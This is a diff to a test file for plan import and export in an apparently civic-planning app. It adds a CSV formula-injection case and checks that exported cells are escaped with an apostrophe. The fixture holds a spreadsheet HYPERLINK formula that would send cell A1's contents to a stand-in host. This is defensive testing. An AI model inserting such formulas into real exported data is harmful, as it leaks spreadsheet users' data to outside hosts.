@@ -137,11 +137,17 @@ describe("importing and exporting", () => {
     const plan = metepecPlan(bot.clock.now());
     // Text that needs quoting in either format.
     plan.commitments[0].actions = 'Censo, "tablero" público;\ny rondas: mensuales';
+    // Text a spreadsheet would run as a formula, and text that only starts with an apostrophe.
+    plan.commitments[1].actions = '=HYPERLINK("http://example.test/?x="&A1,"Ver evidencia")';
+    plan.commitments[1].title = "'Obras' a la vista";
     await importPlan(bot.app, plan);
     const stored = await bot.app.plans.get("15054");
     if (!stored) throw new Error("no plan");
     const text = writePlanFile(format, stored.plan, stored.commitments);
     const read = readPlanFile(`plan.${format}`, text);
+    // In CSV no cell starts a formula: it starts with an apostrophe, taken off again when read.
+    if (format === "csv") expect(text).not.toMatch(/(^|,)"?[=+\-@]/m);
+    if (format === "csv") expect(text).toContain(`"'=HYPERLINK(`);
     bot.clock.advance(60_000);
     expect(await bot.app.plans.import(read.plan, read.where)).toMatchObject({ created: 0, updated: 0, unchanged: 2 });
     expect(await bot.app.plans.get("15054")).toEqual(stored);
